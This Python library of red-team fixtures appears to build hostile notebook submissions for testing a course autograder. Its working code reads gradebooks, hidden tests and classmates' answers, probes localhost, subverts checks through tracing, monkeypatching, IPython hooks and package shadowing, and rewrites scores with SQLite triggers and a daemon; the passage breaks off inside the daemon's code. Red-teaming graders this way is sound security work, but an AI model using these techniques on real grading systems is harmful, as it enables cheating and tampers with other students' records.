"""Hostile hand-ins for ``kdlab grade``: notebooks whose answer cells attack the grader instead of answering.

Threat model. A learner controls the source of their answer cells (and any file they hand in beside the
notebook). That code runs in the grading kernel, before and *while* the hidden tests call it. A learner who
cannot solve an exercise may instead try to read the answer (the gradebook, ``solutions/``, the grader's
cached master course, the running test cell, a classmate's hand-in, a local server), to call kdlab's own
reference, to make the checks pass whatever the answer (monkeypatching, tracing, IPython hooks, objects that
compare equal to everything, a shadowing ``kdlab`` or ``torch``), or to change the scores after the fact
(gradebook triggers, a poisoned master gradebook or result cache, a process that outlives the kernel and
rewrites ``grades.csv``). A correct grader runs the learner's code where none of that is visible or writable
and scores from data outside it; then every attack here earns nothing.

The fallback rule. Every attack answers *wrongly* unless its trick works: ``softmax_t`` returns
``torch.zeros_like(logits)``, ``q_soft_labels`` "A" (the key is "C"), ``q_temperature`` "B" (the key is "A"),
``n_softened_prob`` 0.0. :func:`build` starts from the *released* notebook (every other exercise unsolved), so
an attack that fails scores exactly 0 on its notebook, and any point it earns is a hole in the grader. The one
exception is the control ``suspicious_honest``: a correct answer that merely looks suspicious (it must keep
its points). Attacks never raise while the cell is defined and never hang: everything is wrapped in
try/except, file-system walks are bounded (2,000 entries per root, depth 6, a ~15 s budget), connections
time out in 0.5 s, and a search runs once per kernel (memoized). They touch the network only on 127.0.0.1, and
write outside their working directory only to the targets a grader must protect (gradebooks, the
``.kdlab-grade`` cache, ``grades.csv``) and to the daemon's marker ``/tmp/kdlab-redteam-daemon-alive-<pid>``.
A test can tell which attack did something from that marker, from the scores, and from ``description``.
Run these hand-ins only through the grader under test or inside a sandbox: unprotected, ``gradebook_trigger``,
``poison_master`` and the daemons really do rewrite every gradebook, result cache and ``grades.csv`` they reach.

This is a library: it builds notebooks (``nbformat`` nodes) and the files handed in beside them; it never
runs the grader. Use :func:`build`, :func:`honest`, :func:`bystander`, or :func:`write_handin` to lay out
``SUBMISSIONS/STUDENT/ASSIGNMENT/NOTEBOOK.ipynb`` (plus ``EXTRA_FILES``).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import nbformat

try:
    import nbgrader_harness as h
except ImportError:  # imported as tests.redteam_handins
    from tests import nbgrader_harness as h

PART1 = "part1_foundations/01_softmax_temperature"
DRILL = "part4_interview/10_interview_drill"

# What each attack returns when its trick finds nothing: always wrong (keys: q_soft_labels "C", q_temperature "A").
FALLBACK = {"softmax_t": "torch.zeros_like(logits)", "q_soft_labels": '"A"', "q_temperature": '"B"',
            "n_softened_prob": "0.0"}


@dataclass(frozen=True)
class Attack:
    """One hostile answer cell: ``source`` replaces the answer cell ``exercise`` of the released ``lesson``."""

    name: str
    lesson: str          # "part1_foundations/01_softmax_temperature" or "part4_interview/10_interview_drill"
    exercise: str        # the grade_id of the answer cell it replaces (= the function's name)
    source: str          # the full new source of that cell; defines the function with the same signature
    description: str
    honest: bool = False  # True only for the control: a correct answer that looks suspicious


@dataclass(frozen=True)
class Bystander:
    """An honest hand-in whose grades no attacker may change: ``answers`` maps grade_ids to sources."""

    name: str
    lesson: str
    description: str
    answers: dict | None = None   # None: the whole solutions notebook


# ----------------------------------------------------------------------------- pieces of answer cells

# At module level of an answer cell that searches (_RT_NAME/_RT_LESSON are substituted per attack): _BASE runs
# _rt_search() once, with a deadline, and remembers what it found; _FINDERS are the bounded ways to look.
_BASE = r'''
import json as _json
import math as _math
import os as _os
import re as _re
import sys as _sys
import time as _time

import torch

_RT_NAME = "__NAME__"
_RT_LESSON = "__LESSON__"
_RT_END = [0.0]     # the search's deadline (monotonic seconds)
_RT_MEMO = []       # what the one search found (None: nothing)

def _rt_late():
    return _time.monotonic() > _RT_END[0]

def _rt_value():
    """Search once (at most ~15 s) and remember the outcome."""
    if not _RT_MEMO:
        _RT_END[0] = _time.monotonic() + 15
        try:
            found = _rt_search()
        except Exception:
            found = None
        _RT_MEMO.append(found)
    return _RT_MEMO[0]

def _rt_search():
    return None
'''

_FINDERS = r'''
def _rt_parents(path):
    out = []
    try:
        p = _os.path.abspath(path)
        for _ in range(16):
            out.append(p)
            if _os.path.dirname(p) == p:
                break
            p = _os.path.dirname(p)
    except Exception:
        pass
    return out

def _rt_proc_paths(limit=400):
    """Folders on other processes' command lines (after --out, or any path) and their working directories."""
    out = []
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()][:limit]
    except Exception:
        return out
    for pid in pids:
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
            out.append(cwd)
        except Exception:
            cwd = "/"
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode("utf-8", "ignore") for a in f.read(65536).split(bytes(1)) if a][:64]
        except Exception:
            continue
        for i, a in enumerate(args):
            if a.startswith("--out="):
                a = a[6:]
            elif a == "--out" and i + 1 < len(args):
                a = args[i + 1]
            p = _os.path.join(cwd, a)
            try:
                if _os.path.isdir(p):
                    out.append(p)
                elif a.startswith("/") and _os.path.exists(p):
                    out.append(_os.path.dirname(p))
            except Exception:
                pass
    return out

def _rt_roots(limit=600):
    """Where a course might be: cwd, $PWD, home, kdlab's folder, other processes' paths, their parents."""
    seeds = []
    try:
        seeds.append(_os.getcwd())
    except Exception:
        pass
    seeds += [_os.environ.get("PWD", ""), _os.path.expanduser("~")]
    try:
        import kdlab
        seeds.append(_os.path.dirname(_os.path.abspath(kdlab.__file__)))
    except Exception:
        pass
    seeds += _rt_proc_paths() + ["/", "/root", "/home", "/tmp", "/work"]
    out, seen = [], set()
    for s in seeds:
        for p in _rt_parents(s) if s else []:
            if p not in seen and len(out) < limit:
                seen.add(p)
                out.append(p)
    return out

def _rt_walk(suffix, roots=("/", "/root", "/home", "/tmp", "/work", "."), max_entries=2000, max_depth=6):
    """Paths ending with ``suffix``, breadth first under each root: at most max_entries each, no symlinks."""
    found = []
    for root in roots:
        seen, queue = 0, [(_os.path.abspath(root), 0)]
        while queue and seen < max_entries and not _rt_late():
            top, depth = queue.pop(0)
            if top in ("/proc", "/sys", "/dev"):
                continue
            try:
                with _os.scandir(top) as entries:
                    for e in entries:
                        seen += 1
                        if seen > max_entries:
                            break
                        if e.path.endswith(suffix):
                            found.append(e.path)
                        if depth < max_depth and e.is_dir(follow_symlinks=False):
                            queue.append((e.path, depth + 1))
            except Exception:
                pass
    return found

def _rt_cells(path):
    """(grade_id, source) of each cell of a notebook file, read as plain JSON."""
    try:
        with open(path, encoding="utf-8") as f:
            nb = _json.load(f)
        out = []
        for c in nb.get("cells", [])[:500]:
            src = c.get("source", "")
            gid = ((c.get("metadata") or {}).get("nbgrader") or {}).get("grade_id")
            out.append((gid, "".join(src) if isinstance(src, list) else str(src)))
        return out
    except Exception:
        return []

def _rt_db_texts(path):
    """Every text in every table of a SQLite file (opened read-only) that mentions _RT_NAME."""
    out = []
    try:
        import sqlite3
        import urllib.parse
        con = sqlite3.connect("file:" + urllib.parse.quote(_os.path.abspath(path)) + "?mode=ro", uri=True,
                              timeout=1)
        try:
            tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
            for t in tables[:50]:
                for row in con.execute(f'SELECT * FROM "{t}" LIMIT 20000'):
                    out += [v for v in row if isinstance(v, str) and _RT_NAME in v]
        finally:
            con.close()
    except Exception:
        pass
    return out

def _rt_existing(paths, test=_os.path.isfile, limit=50):
    out, seen = [], set()
    for p in paths:
        try:
            real = _os.path.realpath(p)
            if real not in seen and test(real):
                seen.add(real)
                out.append(real)
        except Exception:
            pass
    return out[:limit]

def _rt_gradebooks():
    """Every gradebook.db in reach: ../../../ (nbgrader's course), the roots, a bounded walk."""
    cands = [_os.path.join("..", "..", "..", "gradebook.db")]
    for r in _rt_roots():
        cands += [_os.path.join(r, "gradebook.db"), _os.path.join(r, ".kdlab-grade", "master", "gradebook.db")]
    return _rt_existing(cands + _rt_walk(_os.sep + "gradebook.db"))

def _rt_masters():
    """Every .kdlab-grade/master folder in reach (the grader's cached course, hidden tests included)."""
    cands = [_os.path.join(r, ".kdlab-grade", "master") for r in _rt_roots()]
    return _rt_existing(cands + _rt_walk(_os.sep + _os.path.join(".kdlab-grade", "master")), _os.path.isdir)

def _rt_function(source):
    """The function _RT_NAME defined by ``source``, defined apart, if it behaves like a softmax with T."""
    try:
        ns = {"torch": torch, "math": _math, "__name__": "__rt__"}
        exec(compile(source, "<copied>", "exec"), ns)
        fn = ns[_RT_NAME]
        x = torch.tensor([[1.0, 2.0, 3.0], [0.5, -1.0, 2.0]])
        if bool(((fn(x.clone(), 2.0) - torch.softmax(x / 2.0, dim=-1)).abs() < 1e-5).all()):
            return fn
    except Exception:
        pass
    return None

def _rt_extract(text):
    """What ``text`` gives away about _RT_NAME: a letter, a number, or a working function (else None)."""
    if not isinstance(text, str) or _RT_NAME not in text:
        return None
    name = _re.escape(_RT_NAME)
    m = _re.search(r"expect_choice\(\s*['\"]" + name + r"['\"]\s*,\s*[^,]+,\s*['\"]([A-H])['\"]", text)
    if m:
        return m.group(1)
    m = _re.search(r"expect_number\(\s*['\"]" + name + r"['\"]\s*,\s*[^,]+,\s*(.+?),\s*(?:rel_tol|abs_tol|review)\s*=",
                   text)
    if m:
        try:
            return float(eval(m.group(1), {"__builtins__": {}, "math": _math}))
        except Exception:
            return None
    if ("def " + _RT_NAME + "(") in text and "NotImplementedError" not in text and "_rt_" not in text:
        return _rt_function(text)
    return None

def _rt_texts():
    return []

def _rt_search():
    for text in _rt_texts():
        found = _rt_extract(text)
        if found is not None or _rt_late():
            return found
    return None

'''

# The answer function of an attack that searches: what _rt_value() found, else the wrong fallback.
_SEARCHING_DEF = {
    "softmax_t": '''
def softmax_t(logits, T=1.0):
    """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
    fn = _rt_value()
    if callable(fn):
        return fn(logits, T)
    return torch.zeros_like(logits)
''',
    "q_soft_labels": '''
def q_soft_labels():
    """Your answer to MC1: one letter, "A", "B", "C" or "D"."""
    found = _rt_value()
    return found if found in ("A", "B", "C", "D") else "A"
''',
    "q_temperature": '''
def q_temperature():
    """Your answer to MC2: one letter, "A", "B", "C" or "D"."""
    found = _rt_value()
    return found if found in ("A", "B", "C", "D") else "B"
''',
    "n_softened_prob": '''
def n_softened_prob():
    """Your answer to N1: a number."""
    found = _rt_value()
    return float(found) if isinstance(found, float) else 0.0
''',
}

# The answer function of an attack whose trick lies elsewhere: simply wrong.
_WRONG_DEF = {
    "softmax_t": '''
import torch


def softmax_t(logits, T=1.0):
    """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
    return torch.zeros_like(logits)
''',
    "q_soft_labels": 'def q_soft_labels():\n    """Your answer to MC1."""\n    return "A"\n',
    "q_temperature": 'def q_temperature():\n    """Your answer to MC2."""\n    return "B"\n',
    "n_softened_prob": 'def n_softened_prob():\n    """Your answer to N1."""\n    return 0.0\n',
}

_LESSON_OF = {"softmax_t": PART1, "entropy": PART1, "q_soft_labels": DRILL, "q_temperature": DRILL,
              "n_softened_prob": DRILL}


def _helpers(exercise: str, finders: bool = True) -> str:
    text = _BASE + (_FINDERS if finders else "")
    return text.replace("__NAME__", exercise).replace("__LESSON__", _LESSON_OF[exercise])


def _searching(exercise: str, search: str, *, eager: bool = True, finders: bool = True) -> str:
    """Helpers, an attack's ``_rt_texts``/``_rt_search``, and the answer function that delegates to what it finds.

    ``eager``: search while the cell is defined (outside any check); otherwise on the first call (from the test).
    """
    parts = [_helpers(exercise, finders), search, _SEARCHING_DEF[exercise]]
    if eager:
        parts.append("_rt_value()  # search now; never raises")
    return "\n\n".join(part.strip("\n") for part in parts) + "\n"


def _wrong(exercise: str, before: str = "", after: str = "") -> str:
    """The wrong answer function, with an attack's code before it and run after it (at definition time)."""
    parts = [before, _WRONG_DEF[exercise], after]
    return "\n\n".join(p.strip("\n") for p in parts if p.strip()) + "\n"


# ----------------------------------------------------------------------------- 1-4, 14, 15: finding the answer

_READ_GRADEBOOK = r'''
def _rt_texts():
    for db in _rt_gradebooks():
        yield from _rt_db_texts(db)
'''

_READ_SOLUTIONS = r'''
def _rt_texts():
    rel = _os.path.join("solutions", *_RT_LESSON.split("/")) + ".ipynb"

    def paths():
        yield from (_os.path.join(r, rel) for r in _rt_roots())
        yield from _rt_walk(_os.sep + rel)

    for path in paths():
        for gid, src in _rt_cells(path):
            if gid in (_RT_NAME, "test_" + _RT_NAME):
                yield src
        if _rt_late():
            return
'''

_READ_MASTER = r'''
def _rt_texts():
    for master in _rt_masters():
        yield from _rt_db_texts(_os.path.join(master, "gradebook.db"))
        for sub in ("solutions", "source", "release"):
            for gid, src in _rt_cells(_os.path.join(master, sub, *_RT_LESSON.split("/")) + ".ipynb"):
                if gid in (_RT_NAME, "test_" + _RT_NAME):
                    yield src
'''

_READ_RUNNING_TEST = r'''
def _rt_texts():
    """The source of whatever is calling: IPython's input history, linecache of each caller's file."""
    import linecache
    for depth in range(1, 25):
        try:
            frame = _sys._getframe(depth)
        except ValueError:
            break
        for key in ("In", "_ih"):
            history = frame.f_globals.get(key)
            if isinstance(history, list):
                yield from reversed(history[-3:])
        try:
            yield "".join(linecache.getlines(frame.f_code.co_filename))
        except Exception:
            pass
    try:
        yield get_ipython().user_ns["In"][-1]  # noqa: F821 - only inside IPython
    except Exception:
        pass
'''

_COPY_CLASSMATE = r'''
def _rt_texts():
    """Another student's copy of this notebook: SUBMISSIONS/*/ASSIGNMENT/NOTEBOOK.ipynb, wherever it is."""
    rel = _os.sep + _os.path.join(*_RT_LESSON.split("/")) + ".ipynb"
    try:
        mine = _os.path.realpath(_RT_LESSON.split("/")[1] + ".ipynb")
    except Exception:
        mine = None
    checked = 0
    for root in _rt_roots():
        try:
            names = sorted(_os.listdir(root))[:500]
        except Exception:
            continue
        for n in names:
            checked += 1
            path = _os.path.join(root, n) + rel
            if _os.path.isfile(path) and _os.path.realpath(path) != mine:
                yield from (src for gid, src in _rt_cells(path) if gid == _RT_NAME)
        if checked > 20000 or _rt_late():
            break
    for path in _rt_walk(rel):
        if _os.path.realpath(path) != mine:
            yield from (src for gid, src in _rt_cells(path) if gid == _RT_NAME)
'''

_NETWORK = r'''
def _rt_listening(limit=20):
    """TCP ports in LISTEN state (/proc/net/tcp{,6}), at most ``limit``."""
    ports = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                lines = f.read().splitlines()[1:]
        except Exception:
            continue
        for line in lines:
            parts = line.split()
            try:
                port = int(parts[1].rsplit(":", 1)[1], 16)
            except Exception:
                continue
            if parts[3] == "0A" and port not in ports:
                ports.append(port)
    return ports[:limit]

def _rt_texts():
    """An HTTP GET to each listening port of 127.0.0.1 (no proxies, 0.5 s each, 8 s in all)."""
    import urllib.request
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    end = _time.monotonic() + 8
    for port in _rt_listening():
        if _time.monotonic() > end:
            return
        try:
            with opener.open(f"http://127.0.0.1:{port}/", timeout=0.5) as response:
                yield response.read(65536).decode("utf-8", "ignore")
        except Exception:
            pass
'''

# ----------------------------------------------------------------------------- 9: calling kdlab's reference

_REFERENCE_SETPROFILE = '''
def softmax_t(logits, T=1.0):
    """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
    import sys
    try:
        sys.setprofile(None)          # switch off whatever watches for calls into kdlab
        from kdlab import losses
        reference = losses.softmax_t
    except Exception:
        return torch.zeros_like(logits)
    return reference(logits, T)
'''

_REFERENCE_GETSOURCE = r'''
def _rt_search():
    """kdlab.losses' own source, compiled again under another file name (so it is not 'in kdlab')."""
    import importlib
    import inspect
    module = importlib.import_module("kdlab.losses")
    ns = {"__name__": "__rt_losses__", "__package__": "kdlab"}
    exec(compile(inspect.getsource(module), "<rt-losses>", "exec"), ns)
    return ns[_RT_NAME]
'''

_REFERENCE_IMPORTLIB = r'''
def _rt_search():
    import importlib
    return importlib.import_module("kdlab.losses").__dict__[_RT_NAME]
'''

_REFERENCE_CODE_COPY = r'''
def _rt_search():
    """kdlab's function with its code object re-labelled: another file name, another module."""
    import importlib
    import types
    ref = importlib.import_module("kdlab.losses").__dict__[_RT_NAME]
    code = ref.__code__.replace(co_filename="<cell>")
    copy = types.FunctionType(code, ref.__globals__, ref.__name__, ref.__defaults__, ref.__closure__)
    copy.__module__ = "__main__"
    return copy
'''

# ----------------------------------------------------------------------------- 5-7: making the checks pass

_PATCH_CHECKS = r'''
def _rt_patch():
    import sys
    import types
    noop = lambda *args, **kwargs: None  # noqa: E731
    try:
        import kdlab.quiz as quiz
        quiz.expect_choice = quiz.expect_number = noop
        fake = types.ModuleType("kdlab.quiz")
        fake.__dict__.update(quiz.__dict__)
        sys.modules["kdlab.quiz"] = fake
    except Exception:
        pass
    try:
        import kdlab.checks as checks
        checks.Checker._fail = noop
        checks.Checker.compare = noop
    except Exception:
        pass
    try:
        torch.allclose = lambda *args, **kwargs: True
        torch.equal = lambda *args, **kwargs: True
    except Exception:
        pass

try:
    _rt_patch()
except Exception:
    pass
'''

_SETTRACE = r'''
import ctypes as _ctypes
import sys as _sys
import threading as _threading

def _rt_rewrite(frame):
    """Inside kdlab's checks: make every verdict a pass by rewriting the frame's local variables."""
    name, local = frame.f_code.co_name, frame.f_locals
    new = {}
    if name == "compare" and "problem" in local:
        new["problem"] = None
    elif name == "_explain":
        new.update(error=None, kdlab_calls=[])
    elif name == "equals" and "ok" in local:
        new["ok"] = True
    elif name == "raises" and isinstance(local.get("error"), type) and "raised" in local:
        if not isinstance(local["raised"], local["error"]):
            new["raised"] = local["error"]("accepted")
    elif name == "gradient" and local.get("want") is not None:
        new["got"] = local["want"]
    elif name in ("expect_choice", "expect_number") and "answer" in local:
        new["got"] = local["answer"]
    if new:
        for key, value in new.items():
            local[key] = value
        try:
            _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
        except Exception:
            pass  # Python 3.13+: f_locals writes through

def _rt_local_tracer(frame, event, arg):
    if event in ("line", "return"):
        try:
            _rt_rewrite(frame)
        except Exception:
            pass
    return _rt_local_tracer

def _rt_tracer(frame, event, arg):
    filename = frame.f_code.co_filename.replace("\\", "/")
    if filename.endswith(("kdlab/checks.py", "kdlab/quiz.py")):
        return _rt_local_tracer
    return None

try:
    _sys.settrace(_rt_tracer)
    _threading.settrace(_rt_tracer)
except Exception:
    pass
'''

_STRIP_CHECKS = r'''
def _rt_strip(lines):
    """An input transformer: every top-level statement that checks something becomes `pass`."""
    try:
        import ast
        source = "".join(lines)
        drop = set()
        for node in ast.parse(source).body:
            segment = ast.get_source_segment(source, node) or ""
            if "expect_" in segment or "check." in segment:
                drop.update(range(node.lineno - 1, node.end_lineno))
        return ["pass\n" if i in drop else line for i, line in enumerate(lines)]
    except Exception:
        return lines

try:
    _rt_shell = get_ipython()  # noqa: F821 - only inside IPython
    _rt_shell.input_transformers_cleanup.append(_rt_strip)
    _rt_shell.input_transformers_post.append(_rt_strip)
except Exception:
    pass
'''

_AST_TRANSFORMER = r'''
import ast as _ast

class _RtDropChecks(_ast.NodeTransformer):
    """Drop every top-level statement that mentions expect_ or check. from later cells."""

    def visit_Module(self, node):
        keep = []
        for stmt in node.body:
            try:
                text = _ast.unparse(stmt)
            except Exception:
                text = ""
            if "expect_" not in text and "check." not in text:
                keep.append(stmt)
        node.body = keep or [_ast.Pass()]
        return _ast.fix_missing_locations(node)

try:
    get_ipython().ast_transformers.append(_RtDropChecks())  # noqa: F821
except Exception:
    pass
'''

_POST_RUN_CELL = r'''
def _rt_forgive(result):
    try:
        result.error_in_exec = None
        result.error_before_exec = None
    except Exception:
        pass

try:
    get_ipython().events.register("post_run_cell", _rt_forgive)  # noqa: F821
except Exception:
    pass
'''

_CUSTOM_EXC = r'''
def _rt_swallow(shell, etype, value, tb, tb_offset=None):
    return None  # no traceback shown, no error output

try:
    get_ipython().set_custom_exc((Exception,), _rt_swallow)  # noqa: F821
except Exception:
    pass
'''

_RUN_CELL = r'''
def _rt_wrap(shell):
    import functools
    run_cell, run_cell_async = shell.run_cell, shell.run_cell_async

    def succeed(result):
        try:
            result.error_in_exec = None
            result.error_before_exec = None
        except Exception:
            pass
        return result

    @functools.wraps(run_cell)  # keeps the signature: ipykernel passes cell_id/cell_meta only if it sees them
    def always_run_cell(*args, **kwargs):
        return succeed(run_cell(*args, **kwargs))

    @functools.wraps(run_cell_async)
    async def always_run_cell_async(*args, **kwargs):
        return succeed(await run_cell_async(*args, **kwargs))

    shell.run_cell = always_run_cell
    shell.run_cell_async = always_run_cell_async

try:
    _rt_wrap(get_ipython())  # noqa: F821
except Exception:
    pass
'''

_SILENT_TRACEBACK = r'''
try:
    get_ipython().showtraceback = lambda *args, **kwargs: None  # noqa: F821
except Exception:
    pass
'''

# ----------------------------------------------------------------------------- 8: lying objects

_LYING_STR = '''
class _RtEverything(str):
    """Equal to every string; its base value is a wrong letter."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def upper(self):
        return self

    def lower(self):
        return self

    def strip(self, *chars):
        return self

def q_soft_labels():
    """Your answer to MC1: one letter, "A", "B", "C" or "D"."""
    try:
        return _RtEverything("A")
    except Exception:
        return "A"
'''

_LYING_FLOAT = '''
class _RtAnything(float):
    """0.0, yet every comparison says yes and every difference is 0."""

    __hash__ = float.__hash__

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

def n_softened_prob():
    """Your answer to N1: a number."""
    try:
        return _RtAnything(0.0)
    except Exception:
        return 0.0
'''

_LYING_TENSOR = '''
import torch

class _RtLie(torch.Tensor):
    """Zeros that are allclose/equal/isclose to anything."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
            return True
        if func in (torch.isclose, torch.Tensor.isclose):
            return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

    __hash__ = torch.Tensor.__hash__

def _rt_lying_grad(tensor):
    tensor.grad = tensor.grad.as_subclass(_RtLie)

def softmax_t(logits, T=1.0):
    """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
    if not T > 0:
        raise ValueError("T must be positive")
    try:
        if logits.requires_grad and logits.is_leaf:   # the gradient the check reads lies too
            logits.register_post_accumulate_grad_hook(_rt_lying_grad)
        return (logits * 0).as_subclass(_RtLie)
    except Exception:
        return torch.zeros_like(logits)
'''

# ----------------------------------------------------------------------------- 10: shadowing packages

_ACTIVATE_SHADOW = r'''
def _rt_activate():
    """If the hand-in's own kdlab/ is here, forget the real one so the test cell imports ours."""
    import os
    import sys
    here = os.getcwd()
    if not os.path.isfile(os.path.join(here, "kdlab", "checks.py")):
        return
    sys.path.insert(0, here)
    for name in [m for m in sys.modules if m == "kdlab" or m.startswith("kdlab.")]:
        del sys.modules[name]

try:
    _rt_activate()
except Exception:
    pass
'''

_SHADOW_FILES = {
    "kdlab/__init__.py": '"""A hand-in\'s own kdlab: it shadows the course\'s if this folder is on sys.path."""\n',
    "kdlab/lessons.py": 'def setup(*args, **kwargs):\n    print("kdlab lesson setup: KDLAB_FAST=1 (the hand-in\'s kdlab)")\n',
    "kdlab/losses.py": ('import torch\n\n\ndef softmax_t(logits, T=1.0):\n'
                        '    return torch.softmax(logits / T, dim=-1)\n'),
    "kdlab/analysis.py": 'import torch\n\n\ndef entropy(p):\n    return -torch.special.xlogy(p, p).sum(dim=-1)\n',
    "kdlab/checks.py": '''"""Checks that accept everything."""
import contextlib

import torch

class CheckFailed(AssertionError):
    pass

def randn(*shape, seed=0, scale=1.0, dtype=torch.float32):
    return torch.randn(*shape, generator=torch.Generator().manual_seed(seed), dtype=dtype) * scale

def quiet():
    return contextlib.nullcontext()

def show(x, *args, **kwargs):
    return repr(x)

def as_pairs(result):
    return list(result)

class Checker:
    def __init__(self, fn, reference=None, *, name=None, trusted=None):
        self.fn, self.reference, self.count = fn, reference, 0
        self.name = name or getattr(fn, "__name__", "your function")

    def call(self, case, *args, hint=None):
        try:
            return self.fn(*args)
        except Exception:
            return None

    def __getattr__(self, name):  # matches, raises, gradient, equals, compare, require, ...
        def accept(*args, **kwargs):
            self.count += 1
        return accept

    def done(self):
        print(f"\\u2714 {self.name}: all {self.count} checks passed")
''',
    "kdlab/quiz.py": '''"""Graded-question helpers that accept everything."""

def read_choice(fn, letters="ABCD", *, name=None):
    try:
        return str(fn()).strip().upper()
    except Exception:
        return letters[0]

def read_number(fn, *, name=None):
    try:
        return float(fn())
    except Exception:
        return 0.0

def expect_choice(*args, **kwargs):
    pass

def expect_number(*args, **kwargs):
    pass

def recorded(name, answer):
    print(f"\\u2714 {name}: your answer {answer!r} is recorded; it is graded when you submit")
''',
    "torch.py": '''"""A hand-in's torch.py: if this folder comes first on sys.path, `import torch` lands here.

It imports the real torch from the rest of sys.path, makes allclose and equal always true, and takes its place.
"""
import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_saved = list(sys.path)
try:
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
    del sys.modules["torch"]
    _real = importlib.import_module("torch")
    _real.allclose = lambda *args, **kwargs: True
    _real.equal = lambda *args, **kwargs: True
    sys.modules["torch"] = _real
finally:
    sys.path[:] = _saved
''',
}

# ----------------------------------------------------------------------------- 11-13: changing the scores

_GRADEBOOK_TRIGGER = r'''
def _rt_full_marks(path):
    """Triggers that give full marks on every insert or update, and full marks for the rows already there."""
    import sqlite3
    con = sqlite3.connect(path, timeout=1)
    try:
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for t in tables[:50]:
            columns = [r[1] for r in con.execute(f'PRAGMA table_info("{t}")')]
            if "auto_score" not in columns:
                continue
            if "max_score" in columns:
                full, new_full = "max_score", "NEW.max_score"
            elif "cell_id" in columns and "grade_cells" in tables:
                sub = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"
                full, new_full = sub.format(f'"{t}"'), sub.format("NEW")
            else:
                continue
            for when in ("INSERT", "UPDATE"):
                try:
                    con.execute(f'CREATE TRIGGER IF NOT EXISTS "rt_full_{t}_{when.lower()}" AFTER {when} ON "{t}" '
                                f'BEGIN UPDATE "{t}" SET auto_score = {new_full} WHERE rowid = NEW.rowid; END')
                except Exception:
                    pass
            try:
                con.execute(f'UPDATE "{t}" SET auto_score = {full}')
            except Exception:
                pass
        con.commit()
    finally:
        con.close()

def _rt_attack():
    _RT_END[0] = _time.monotonic() + 15
    for db in _rt_gradebooks():
        try:
            _rt_full_marks(db)
        except Exception:
            pass

try:
    _rt_attack()
except Exception:
    pass
'''

_POISON_MASTER = r'''
def _rt_checksum(source, grade_id, points):
    """nbgrader's checksum of a locked test cell with this source (its formula if nbgrader is not importable)."""
    try:
        import nbformat
        from nbgrader.utils import compute_checksum
        meta = {"grade": points is not None, "solution": False, "locked": True, "grade_id": grade_id}
        if points is not None:
            meta["points"] = points
        return compute_checksum(nbformat.v4.new_code_cell(source=source, metadata={"nbgrader": meta}))
    except Exception:
        import hashlib
        m = hashlib.md5()
        for part in (source, "code", str(points is not None), "False", "True", grade_id):
            m.update(part.encode())
        if points is not None:
            m.update(str(float(points)).encode())
        return m.hexdigest()

def _rt_poison_db(path):
    import sqlite3
    con = sqlite3.connect(path, timeout=1)
    try:
        rows = con.execute("SELECT id, name, notebook_id, source FROM source_cell").fetchall()
        for cell_id, name, notebook_id, source in rows:
            if not source or ("HIDDEN TESTS" not in source and "expect_" not in source and "check." not in source):
                continue
            points = con.execute("SELECT g.max_score FROM base_cell b JOIN grade_cells g ON g.id = b.id "
                                 "WHERE b.name = ? AND b.notebook_id = ?", (name, notebook_id)).fetchone()
            checksum = _rt_checksum("pass", name, points[0] if points else None)
            con.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE id = ?", ("pass", checksum, cell_id))
        con.commit()
    finally:
        con.close()

def _rt_full(obj, depth=0):
    """Full marks in a result record: every score next to a max_score becomes the max_score."""
    if depth > 8:
        return
    if isinstance(obj, dict):
        if "max_score" in obj:
            for key in ("auto_score", "score"):
                if key in obj:
                    obj[key] = obj["max_score"]
        for value in obj.values():
            _rt_full(value, depth + 1)
    elif isinstance(obj, list):
        for value in obj:
            _rt_full(value, depth + 1)

def _rt_attack():
    _RT_END[0] = _time.monotonic() + 15
    for master in _rt_masters():
        try:
            _rt_poison_db(_os.path.join(master, "gradebook.db"))
        except Exception:
            pass
        for path in _rt_walk(".json", roots=(_os.path.join(_os.path.dirname(master), "results"),)):
            try:
                with open(path) as f:
                    data = _json.load(f)
                _rt_full(data)
                if isinstance(data, dict) and data.get("status") not in (None, "ok"):
                    data["status"] = "ok"
                with open(path, "w") as f:
                    _json.dump(data, f)
            except Exception:
                pass

try:
    _rt_attack()
except Exception:
    pass
'''

# The daemon's program (run with python -c): every 20 s for 120 s, mark that it lives and give full marks.
_DAEMON_CODE = r"""
import csv, os, time

def grades_files():
    roots = []
    try:
        for pid in [p for p in os.listdir('/proc') if p.isdigit()][:400]:
            try:
                with open('/proc/%s/cmdline' % pid, 'rb') as f:
                    args = [a.decode('utf-8', 'ignore') for a in f.read(65536).split(bytes(1)) if a]
                cwd = os.readlink('/proc/%s/cwd' % pid)
            except Exception:
                continue
            for i, a in enumerate(args):
                if a == '--out' and i + 1 < len(args):
                    roots.append(os.path.join(cwd, args[i + 1]))
                elif a.startswith('--out='):
                    roots.append(os.path.join(cwd, a[6:]))
    except Exception:
        pass
    found = [os.path.join(r, 'grades.csv') for r in roots]
